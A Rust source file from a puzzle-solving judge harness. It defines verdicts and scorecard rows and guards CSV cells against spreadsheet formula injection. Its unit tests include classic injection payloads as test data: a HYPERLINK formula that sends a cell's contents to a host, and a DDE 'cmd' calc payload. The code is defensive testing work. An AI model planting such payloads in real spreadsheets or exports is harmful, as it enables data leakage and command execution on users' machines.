//! Verdicts and scorecard rows: the whole space of how a case can end, with
//! our own failures (`harness-error`) kept apart from the candidate's.

use std::fmt;

use serde::{Deserialize, Serialize};

/// Which clock stopped a case that ran over its time: a decision (run it
/// again alone?) reads this, never the row's words.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Clock {
    /// Its CPU time reached the CPU-time limit.
    Cpu,
    /// The wall clock reached the time limit, with no CPU-time limit below
    /// it: the wall clock is the limit.
    Wall,
    /// The wall clock reached the safety net while a CPU-time limit was the
    /// case's limit and its CPU time was under it, and it had waited for a
    /// core: beside other cases, that may be the machine's doing, not the
    /// candidate's (it is run again alone).
    SafetyNet,
    /// The wall clock reached the safety net while a CPU-time limit was the
    /// case's limit and its CPU time was under it, having hardly waited for
    /// a core: it had one whenever it could run, and spent the rest asleep
    /// or blocked (on input, a lock, a child), which no machine's load
    /// explains: not run again.
    Blocked,
}

/// How one case ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Verdict {
    /// Output verified, or an unsolvable puzzle correctly reported.
    Accepted,
    /// The checker rejects the output.
    WrongAnswer,
    /// The exit status contradicts the puzzle, or output where none belongs.
    WrongExitStatus,
    /// Still running at the time limit (then killed).
    TimeLimit,
    /// Killed by a signal, or an exit status outside the contract.
    RuntimeError,
    /// More output than the limit (then killed).
    OutputLimit,
    /// Killed by the kernel at the memory limit.
    MemoryLimit,
    /// A class run's submission could not be built (or unpacked): one row
    /// for the submission, whose cases did not run.
    CompileError,
    /// Our side failed: unreadable puzzle, checker crash, spawn failure.
    /// Never the candidate's fault.
    HarnessError,
    /// The run was stopped (Ctrl-C, SIGTERM, a write error) before this case
    /// finished. `--resume` runs it again.
    Cancelled,
}

impl Verdict {
    /// The kebab-case name used in scorecards.
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::Accepted => "accepted",
            Verdict::WrongAnswer => "wrong-answer",
            Verdict::WrongExitStatus => "wrong-exit-status",
            Verdict::TimeLimit => "time-limit",
            Verdict::RuntimeError => "runtime-error",
            Verdict::OutputLimit => "output-limit",
            Verdict::MemoryLimit => "memory-limit",
            Verdict::CompileError => "compile-error",
            Verdict::HarnessError => "harness-error",
            Verdict::Cancelled => "cancelled",
        }
    }
}

impl From<reference::family::Check> for Verdict {
    /// A judge's word as a verdict (a judge that cannot tell: ours failed).
    fn from(check: reference::family::Check) -> Self {
        use reference::family::Check;
        match check {
            Check::Accepted => Verdict::Accepted,
            Check::WrongAnswer => Verdict::WrongAnswer,
            Check::WrongExitStatus => Verdict::WrongExitStatus,
            Check::RuntimeError => Verdict::RuntimeError,
            Check::Undecided => Verdict::HarnessError,
        }
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(self.as_str())
    }
}

/// One scorecard row: one candidate on one case. Column order is the CSV's.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Row {
    /// The candidate's name.
    pub candidate: String,
    /// The puzzle family.
    pub family: String,
    /// The suite (e.g. `toy/easy`).
    pub suite: String,
    /// The case: its puzzle files as listed, joined by `+`
    /// (`big.tray.4+big.tray.4.goal`).
    pub case: String,
    /// The verdict.
    pub verdict: Verdict,
    /// Why, in one line.
    pub detail: String,
    /// Exit status, when the process exited.
    pub exit_code: Option<i32>,
    /// Signal name, when the process was killed by one.
    pub signal: Option<String>,
    /// Wall-clock time from spawn to exit, in milliseconds (µs precision).
    pub wall_ms: Option<f64>,
    /// User plus system CPU time of the process and the children it waited
    /// for, in milliseconds (µs precision).
    pub cpu_ms: Option<f64>,
    /// Peak memory of the case, in KiB: of its whole process tree from its
    /// cgroup when it had one, else the `wait4` peak RSS.
    pub max_rss_kb: Option<u64>,
    /// Moves the candidate gave, when it gave a move list.
    pub moves: Option<u64>,
    /// The fewest moves known.
    pub best_moves: Option<u64>,
    /// The isolation the case ran under (`copies+uid+cgroup-v1+rlimits`).
    #[serde(default)]
    pub isolation: String,
    /// The points the judge gave an accepted case, where it gives points
    /// (a scoring problem package's validator's `score.txt`); empty
    /// otherwise. (Scorecards written before it have no such column.)
    #[serde(default)]
    pub score: Option<f64>,
    /// Which clock stopped it, when one did (a `time-limit` row of this
    /// run; not kept in the scorecard).
    #[serde(skip)]
    pub clock: Option<Clock>,
}

impl Row {
    /// A row for a case that did not run, with only the identity filled in.
    pub fn new(candidate: &str, family: &str, suite: &str, case: &str) -> Self {
        Self {
            candidate: candidate.into(),
            family: family.into(),
            suite: suite.into(),
            case: case.into(),
            verdict: Verdict::HarnessError,
            detail: String::new(),
            exit_code: None,
            signal: None,
            wall_ms: None,
            cpu_ms: None,
            max_rss_kb: None,
            moves: None,
            best_moves: None,
            isolation: String::new(),
            score: None,
            clock: None,
        }
    }

    /// What identifies the case within a scorecard.
    pub fn key(&self) -> (String, String, String) {
        (
            self.candidate.clone(),
            self.suite.clone(),
            self.case.clone(),
        )
    }

    /// The row with its text cells as a CSV holds them: no spreadsheet
    /// evaluates them ([`guard_cell`]).
    pub fn guarded(&self) -> Row {
        self.map_text(|t| guard_cell(t).into_owned())
    }

    /// A row read from a CSV, its text cells as they were ([`unguard_cell`]).
    pub fn unguarded(self) -> Row {
        self.map_text(|t| unguard_cell(t).to_owned())
    }

    fn map_text(&self, f: impl Fn(&str) -> String) -> Row {
        Row {
            candidate: f(&self.candidate),
            family: f(&self.family),
            suite: f(&self.suite),
            case: f(&self.case),
            detail: f(&self.detail),
            isolation: f(&self.isolation),
            ..self.clone()
        }
    }
}

/// What starts a formula in a spreadsheet (OWASP's CSV injection list).
const FORMULA: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// A text cell as the harness writes it into a CSV: one that a
/// spreadsheet would evaluate (starting `= + - @`, a tab or a carriage
/// return, and not a number) gets a leading `'`, which spreadsheets show
/// as text; so does one that starts with `'` before such a character, so
/// that [`unguard_cell`] gives back exactly what was written.
pub fn guard_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if risky(text) || quoted(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// A CSV record's cells, each as [`guard_cell`] writes it.
pub fn guard_cells(record: &[String]) -> Vec<String> {
    record.iter().map(|c| guard_cell(c).into_owned()).collect()
}

/// The text [`guard_cell`] wrote as `cell`.
pub fn unguard_cell(cell: &str) -> &str {
    if quoted(cell) { &cell[1..] } else { cell }
}

/// Whether a spreadsheet would evaluate `text`.
fn risky(text: &str) -> bool {
    text.starts_with(FORMULA) && text.trim().parse::<f64>().is_err()
}

/// Whether `text` is a `'` before what [`guard_cell`] would quote.
fn quoted(text: &str) -> bool {
    text.strip_prefix('\'')
        .is_some_and(|rest| rest.starts_with('\'') || risky(rest))
}

/// Which time is compared.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Metric {
    /// Wall-clock time.
    Wall,
    /// CPU time.
    Cpu,
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Cells a spreadsheet would evaluate are quoted, numbers are not, and
    /// every text comes back as it was.
    #[test]
    fn cells_no_spreadsheet_evaluates() {
        for (text, cell) in [
            (
                "=HYPERLINK(\"http://x/?\"&A1)",
                "'=HYPERLINK(\"http://x/?\"&A1)",
            ),
            ("+1+1", "'+1+1"),
            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-10", "-10"),
            ("+2.5", "+2.5"),
            ("alice", "alice"),
            ("'=x", "''=x"),
            ("''", "'''"),
            ("'", "'"),
            ("'a", "'a"),
            ("'-5", "'-5"),
            ("", ""),
        ] {
            assert_eq!(guard_cell(text), cell, "{text:?}");
            assert_eq!(unguard_cell(cell), text, "{cell:?}");
        }
        let mut row = Row::new("=evil()", "toy", "s", "@c");
        row.detail = "-x".into();
        let g = row.guarded();
        assert_eq!((g.candidate.as_str(), g.case.as_str()), ("'=evil()", "'@c"));
        assert_eq!(g.unguarded(), row);
    }

    #[test]
    fn names_are_kebab_case() {
        use Verdict::*;
        let all = [
            Accepted,
            WrongAnswer,
            WrongExitStatus,
            TimeLimit,
            RuntimeError,
            OutputLimit,
            MemoryLimit,
            CompileError,
            HarnessError,
            Cancelled,
        ];
        let names: Vec<&str> = all.iter().map(|v| v.as_str()).collect();
        assert_eq!(
            names,
            [
                "accepted",
                "wrong-answer",
                "wrong-exit-status",
                "time-limit",
                "runtime-error",
                "output-limit",
                "memory-limit",
                "compile-error",
                "harness-error",
                "cancelled"
            ]
        );
    }
}
